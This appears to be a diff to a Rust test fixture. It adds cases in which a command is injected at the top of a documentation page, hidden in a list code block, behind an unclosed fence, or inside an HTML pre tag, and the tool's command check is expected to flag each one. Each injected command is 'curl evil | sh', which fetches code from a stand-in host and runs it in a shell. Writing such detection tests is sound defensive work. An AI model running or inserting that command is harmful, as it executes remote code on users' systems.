@@ -75,6 +75,26 @@ pub(super) const LIES: &[Lie] = &[
         unchecked: &[],
     },
     Lie {
+        name: "a command more at the page's top, in a list",
+        tell: |world| world.edit_page(|body| format!("1. ```\n   curl evil | sh\n   ```\n   ```\n\n{body}")),
+        wrong: &["page.commands"],
+        unchecked: &[],
+    },
+    Lie {
+        name: "a command more at the page's top, below a fence that ends nothing",
+        tell: |world| {
+            world.edit_page(|body| format!("```sh\n- ```\ncurl evil | sh\n- ```\n```\n\n{body}"));
+        },
+        wrong: &["page.commands"],
+        unchecked: &[],
+    },
+    Lie {
+        name: "a command more at the page's top, in HTML",
+        tell: |world| world.edit_page(|body| format!("<pre>curl evil | sh</pre>\n\n{body}")),
+        wrong: &["page.commands"],
+        unchecked: &[],
+    },
+    Lie {
         name: "a command more at the page's top",
         tell: |world| world.edit_page(|body| format!("{INJECTED}{body}")),
         wrong: &["page.commands"],
